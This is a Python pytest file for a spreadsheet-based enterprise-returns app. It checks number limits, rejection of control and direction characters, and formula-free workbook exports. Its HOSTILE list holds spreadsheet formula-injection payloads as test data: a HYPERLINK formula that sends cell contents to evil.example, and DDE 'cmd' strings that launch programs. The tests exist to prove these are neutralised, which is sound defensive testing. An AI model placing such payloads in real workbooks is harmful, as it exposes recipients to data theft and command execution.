"""Issue 11: what a return may carry (number bounds, text rules) and every workbook the app writes
(export, template with and without --park, missing-returns list, rejected rows): text never a formula,
characters Excel cannot hold dropped with a note; `missing` and `import --rejected-xlsx` on the command line."""

from __future__ import annotations

import json
import sqlite3
import zipfile

import pytest

from models.returns import cells

from models.planning import derive
from models.returns.cells import CellError
from models.returns.importer import import_paths
from models.store.period import Period
from models.store.return_form import COLUMNS, SHEET_NAME
from models.base.xlsx_writer import sheet_formulas
from tests.conftest import run_main
from tests.returns_data import KEYS, code, row, write_openpyxl, write_xlsxwriter

HOSTILE = ["=1+1", '=HYPERLINK("http://evil.example/?x="&A1,"点此")', "+cmd|' /C calc'!A0", "@SUM(1)",
           "-2+3", "=cmd|' /C notepad'!A1"]
TITLES = [c.title for c in COLUMNS]


# ------------------------------------------------------------------------------------------- numbers

@pytest.mark.parametrize("raw, expected", [
    (0.0, 0), (10_000_000.0, 10_000_000), ("10,000,000", 10_000_000), (9_999_999, 9_999_999),
])
def test_counts_up_to_ten_million_are_read(raw, expected):
    assert cells.parse_count(raw) == expected


@pytest.mark.parametrize("raw", [10_000_001.0, 1e20, 10**30, "10,000,001", 2.0**53])
def test_counts_beyond_ten_million_are_an_error_not_a_crash(raw):
    with pytest.raises(CellError, match="超出范围"):
        cells.parse_count(raw)


def test_amounts_up_to_1e12_and_no_further():
    assert cells.parse_amount(1e12) == 1e12
    assert cells.parse_amount("1,000,000,000,000") == 1e12
    for raw in (1e12 + 1, 1e20, 1.7e308, "1,000,000,000,001"):
        with pytest.raises(CellError, match="超出范围"):
            cells.parse_amount(raw)
    # the whole-column fast path hands a column holding one huge value to the per-cell readers
    assert cells.fast_column("count", [1.0, 1e20]) is None
    assert cells.fast_column("amount", [1.0, 2e12]) is None
    assert cells.fast_column("count", [1.0, 10_000_000.0]) == [1, 10_000_000]


# ------------------------------------------------------------------------------------------- text

@pytest.mark.parametrize("raw, what", [
    ("甲\x01公司", "控制字符（U+0001）"), ("甲\n公司", "换行符（U+000A）"), ("甲\t公司", "制表符（U+0009）"),
    ("甲\x7f公司", "删除符DEL（U+007F）"), ("甲\x85公司", "控制字符（U+0085）"), ("甲\x9b公司", "控制字符（U+009B）"),
    ("司公\u202e甲", "文字方向控制符（U+202E）"), ("甲\u2066公司", "文字方向控制符（U+2066）"),
    ("甲\u202a公司", "文字方向控制符（U+202A）"),
])
def test_control_and_bidi_characters_reject_the_name(raw, what):
    with pytest.raises(CellError) as info:
        cells.parse_text(raw)
    assert what in str(info.value) and "请删除" in str(info.value)
    assert "\x01" not in str(info.value) and "\u202e" not in str(info.value)  # shown as ⟨U+XXXX⟩


def test_zero_width_characters_and_bom_are_removed_and_counted():
    raw = "\ufeff甲\u200b乙\u200c丙\u200d丁\u2060公司"
    assert cells.parse_text(raw) == "甲乙丙丁公司"
    assert cells.invisible_count(raw) == 5
    assert cells.invisible_count("甲公司") == 0


@pytest.mark.parametrize("raw", ["\u200b", "\ufeff\u200b\u2060", "\u3164", "\u200b \u200b"])
def test_a_name_with_nothing_visible_is_rejected(raw):
    with pytest.raises(CellError, match="没有可见的文字"):
        cells.parse_text(raw)


def test_names_up_to_200_characters():
    assert cells.parse_text("企" * 200) == "企" * 200
    assert cells.parse_text("企" * 200 + "\u200b\u200b") == "企" * 200  # counted after removal
    with pytest.raises(CellError, match="长度为201个字，超过200个字"):
        cells.parse_text("企" * 201)


# ------------------------------------------------------------------------------------------- importer

def test_huge_numbers_and_bad_text_reject_only_their_rows(park, tmp_path):
    path = write_xlsxwriter(tmp_path / "r.xlsx", [
        row(1), row(2, employees=1e20), row(3, patent_apps="1E+20"), row(4, revenue=2e12),
        row(5, name="甲\x01公司"), row(6, name="\u200b乙公司\ufeff"), row(7, name="丙\u202e司公"), row(8)])
    outcome = import_paths(park, [str(path)])
    assert outcome.exit_code == 1
    assert outcome.report["accepted"] == 3  # rows 1, 6, 8
    got = {(p["row"], p["column"]) for p in outcome.report["rejected"]}
    assert got == {(3, "K列“从业人员期末人数（人）”"), (4, "O列“当年专利申请量（件）”"), (5, "F列“营业收入（万元）”"),
                   (6, "B列“企业名称”"), (8, "B列“企业名称”")}
    assert all(p["file"] == str(path) and p["sheet"] == SHEET_NAME for p in outcome.report["rejected"])
    stored = dict(park.conn.execute("SELECT credit_code, name FROM returns"))
    assert stored[code(6)] == "乙公司"
    assert any("第7行B列“企业名称”：已删除2个不可见字符" in w for w in outcome.report["warnings"])
    # derived figures after such a batch: the three accepted rows only (100+1, 100+6, 100+8 employees)
    assert derive.year_totals(park.conn)[2023]["employees"] == 315


def test_import_command_with_1e20_goes_on_with_the_batch(park_path, tmp_path):
    bad = write_xlsxwriter(tmp_path / "bad.xlsx", [row(1, employees=1e20, returnees=1e20), row(2)])
    report = tmp_path / "r.json"
    proc = run_main("import", str(park_path), str(bad), "--report-json", str(report))
    assert proc.returncode == 1, proc.stderr
    assert "Traceback" not in proc.stderr
    data = json.loads(report.read_text(encoding="utf-8"))
    assert data["accepted"] == 1
    assert {p["column"] for p in data["rejected"]} == {"K列“从业人员期末人数（人）”", "L列“其中：留学归国人员（人）”"}
    assert "第2行" in proc.stdout and "超出范围" in proc.stdout


# ------------------------------------------------------------------------------------------- workbooks

def _sheet_xml(path) -> dict[str, str]:
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/sheet")}


def _assert_safe(path):
    """No formula element in any sheet and no character XML 1.0 forbids."""
    assert sheet_formulas(path) == []
    for name, xml in _sheet_xml(path).items():
        assert "<f>" not in xml and "<f " not in xml, name
        assert not any(ch in xml for ch in "\x00\x01\x08\x0b\x1b\x7f\x85\u202e"), name


def _store_hostile(park_path):
    """What an older version could have stored: names beginning like formulas and with control characters,
    an industry and a zone with such names."""
    conn = sqlite3.connect(park_path)
    with conn:
        conn.execute("INSERT INTO industries (name, seq, name_en, grp, goal, source)"
                     " VALUES ('=1+1\x01', 99, 'x', 'other', '', '')")
        conn.execute("INSERT INTO zones (name, seq, short_name, name_en, role, source)"
                     " VALUES ('@SUM(1)', 99, '@', 'x', '', '')")
        conn.execute("INSERT INTO import_batches (id, created_at, files) VALUES (1, '2026-01-01', '[]')")
        for n, name in enumerate(HOSTILE + ["甲\x01\x1b公司\u202e", "乙\ufffe公司"], start=1):
            values = row(n, year=2022, name=name, high_tech=1, mnc_rd=0)
            values["industry"] = "=1+1\x01" if n == 1 else values["industry"]
            keys = ", ".join(KEYS)
            conn.execute(f"INSERT INTO returns (batch_id, {keys}) VALUES (1, {', '.join('?' * len(KEYS))})",
                         [values[k] for k in KEYS])
        conn.execute("INSERT INTO audit_log (at, action, table_name, row_key, new_value) VALUES"
                     " ('2026-01-01', '=1+1', 'returns', '+x', '@y\x02')")
    conn.close()


def test_export_of_hostile_text_has_no_formula_and_notes_what_was_dropped(park_path, tmp_path):
    from openpyxl import load_workbook

    _store_hostile(park_path)
    out = tmp_path / "export.xlsx"
    proc = run_main("export", str(park_path), "--out", str(out))
    assert proc.returncode == 0, proc.stderr
    assert "已删除" in proc.stderr and "说明" in proc.stderr
    _assert_safe(out)
    book = load_workbook(out)
    assert book.sheetnames[-1] == "说明"
    names = {c.value: c for c in book["企业报表"]["B"][1:]}
    for name in HOSTILE:
        assert names[name].data_type == "s" and names[name].quotePrefix, name
    assert "甲公司" in names and "乙公司" in names  # \x01 \x1b U+202E and U+FFFE dropped
    notes = list(book["说明"].values)
    # 产业: the industry's name on 6 years × 6 figures = 36 rows; 企业报表: its name once (D2) and the two
    # names (3 characters in row 8, 1 in row 9); 操作日志: the new value '@y\x02'; 产业分组: the industry's
    # name once. 36 + 3 + 1 + 1 = 41 cells, 36 + 1 + 3 + 1 + 1 + 1 = 43 characters.
    assert notes[0][0].startswith("有41个单元格") and "已删除43个字符" in notes[0][0]
    listed = {("企业报表", 2, "D", 1), ("企业报表", 8, "B", 3), ("企业报表", 9, "B", 1), ("操作日志", 2, "H", 1)}
    assert listed <= set(notes)


def test_template_with_park_of_hostile_names(park_path, tmp_path):
    from openpyxl import load_workbook

    _store_hostile(park_path)
    out = tmp_path / "form.xlsx"
    proc = run_main("template", str(out), "--park", str(park_path))
    assert proc.returncode == 0, proc.stderr
    _assert_safe(out)
    lists = load_workbook(out)["_form"]
    industries = [c.value for c in lists["C"][1:] if c.value]
    assert "=1+1" in industries and lists.cell(row=industries.index("=1+1") + 2, column=3).quotePrefix
    assert "@SUM(1)" in [c.value for c in lists["D"][1:]]
    default = tmp_path / "plain.xlsx"
    assert run_main("template", str(default)).returncode == 0
    _assert_safe(default)


def test_template_validation_uses_the_importers_bounds(tmp_path):
    from openpyxl import load_workbook

    from models.returns.return_template import write_template

    out = write_template(tmp_path / "f.xlsx", ["甲产业"], ["东部中山公园片区"], period=Period(2020, 2025))
    ws = load_workbook(out)[SHEET_NAME]
    by_col = {str(dv.sqref).split(":")[0].rstrip("0123456789"): dv for dv in ws.data_validations.dataValidation}
    assert (by_col["F"].formula1, by_col["F"].formula2) == ("0", "1000000000000")
    assert (by_col["N"].formula1, by_col["N"].formula2) == ("0", "10000000")  # 有效发明专利拥有量
    assert (by_col["K"].formula1, by_col["K"].formula2) == ("0", "10000000")  # 从业人员期末人数
    assert "L2<=10000000" in by_col["L"].formula1  # 留学归国人员: a part of K, a custom rule
    assert by_col["B"].type == "textLength" and by_col["B"].formula1 == "200"


def test_missing_command_lists_last_years_enterprises_without_a_return(park_path, tmp_path):
    from openpyxl import load_workbook

    _store_hostile(park_path)  # eight enterprises returned for 2022
    conn = sqlite3.connect(park_path)
    with conn:  # enterprise 3 has returned for 2023 too
        values = row(3, year=2023, high_tech=1, mnc_rd=0)
        conn.execute(f"INSERT INTO returns (batch_id, {', '.join(KEYS)}) VALUES (1, {', '.join('?' * len(KEYS))})",
                     [values[k] for k in KEYS])
    conn.close()
    out = tmp_path / "缺报.xlsx"
    proc = run_main("missing", str(park_path), "--year", "2023", "--out", str(out))
    assert proc.returncode == 0, proc.stderr
    assert "2022年报表企业8家，2023年已回收1家，未回收7家，回收率12.5%" in proc.stdout
    _assert_safe(out)
    ws = load_workbook(out).worksheets[0]
    rows = list(ws.values)
    assert rows[0][0].startswith("2023年度报表回收情况") and "回收率12.5%" in rows[0][0]
    assert list(rows[1]) == ["统一社会信用代码", "企业名称", "所属产业", "所属片区", "上年营业收入（万元）"]
    assert [r[0] for r in rows[2:]] == sorted(code(n) for n in (1, 2, 4, 5, 6, 7, 8))
    first = rows[2]
    assert first[1] == "=1+1" and first[2] == "=1+1" and first[4] == 1001  # revenue 1000 + n
    assert ws["B3"].data_type == "s" and ws["B3"].quotePrefix


def test_missing_command_refuses_with_exit_2(park_path, tmp_path):
    proc = run_main("missing", str(tmp_path / "nothing.sqlite"), "--year", "2023", "--out", str(tmp_path / "o.xlsx"))
    assert proc.returncode == 2 and "nothing.sqlite" in proc.stderr and "Traceback" not in proc.stderr
    folder = tmp_path / "dir.xlsx"
    folder.mkdir()
    proc = run_main("missing", str(park_path), "--year", "2023", "--out", str(folder))
    assert proc.returncode == 2 and "dir.xlsx" in proc.stderr and "无法写入" in proc.stderr
    assert "Traceback" not in proc.stderr and not list(tmp_path.glob("*.partial"))


def test_rejected_rows_workbook_round_trip(park_path, tmp_path):
    from openpyxl import load_workbook

    path = write_xlsxwriter(tmp_path / "企业甲.xlsx", [
        row(1), row(2, name="=HYPERLINK(\"http://x\",\"y\")", employees=1e20), row(3, tax="约100", zone="火星"),
        row(4, name="丁\x01公司")])
    rejected = tmp_path / "被拒行.xlsx"
    proc = run_main("import", str(park_path), str(path), "--rejected-xlsx", str(rejected))
    assert proc.returncode == 1, proc.stderr
    assert "被拒绝的3行已写入" in proc.stdout
    _assert_safe(rejected)
    book = load_workbook(rejected)
    ws = book[SHEET_NAME]
    rows = list(ws.values)
    assert list(rows[0]) == TITLES + ["问题说明"]
    assert [r[0] for r in rows[1:]] == [code(2), code(3), code(4)]
    second = dict(zip(TITLES + ["问题说明"], rows[1]))
    assert second["企业名称"] == '=HYPERLINK("http://x","y")' and ws["B2"].data_type == "s"
    assert second["从业人员期末人数（人）"] == 1e20 and second["营业收入（万元）"] == 1002
    assert second["问题说明"].startswith("来源：“") and "第3行" in second["问题说明"]
    assert "K列“从业人员期末人数（人）”：“1e+20”超出范围" in second["问题说明"]
    third = dict(zip(TITLES + ["问题说明"], rows[2]))
    assert third["纳税总额（万元）"] == "约100" and third["所属片区"] == "火星"
    assert "G列“纳税总额（万元）”" in third["问题说明"] and "E列“所属片区”" in third["问题说明"]
    assert rows[3][1] == "丁公司" and book.sheetnames == [SHEET_NAME, "说明"]

    # the office corrects the cells and imports the same workbook: every row accepted, 问题说明 ignored
    ws["B2"] = "乙公司"
    ws["K2"] = 102
    ws["G3"] = 103
    ws["E3"] = "东部中山公园片区"
    ws["B4"] = "丁公司"
    book.save(rejected)
    report = tmp_path / "r.json"
    proc = run_main("import", str(park_path), str(rejected), "--report-json", str(report))
    assert proc.returncode == 0, proc.stdout + proc.stderr
    data = json.loads(report.read_text(encoding="utf-8"))
    assert data["accepted"] == 3 and data["warnings"] == []
    conn = sqlite3.connect(park_path)
    assert conn.execute("SELECT COUNT(*) FROM returns").fetchone() == (4,)
    conn.close()


def test_rejected_workbook_unwritable_means_nothing_imported(park_path, tmp_path):
    path = write_openpyxl(tmp_path / "r.xlsx", [row(1), row(2, tax=-1)])
    folder = tmp_path / "out.xlsx"
    folder.mkdir()
    proc = run_main("import", str(park_path), str(path), "--rejected-xlsx", str(folder))
    assert proc.returncode == 2 and "out.xlsx" in proc.stderr and "本批未导入任何数据" in proc.stderr
    conn = sqlite3.connect(park_path)
    assert conn.execute("SELECT COUNT(*) FROM returns").fetchone() == (0,)
    conn.close()
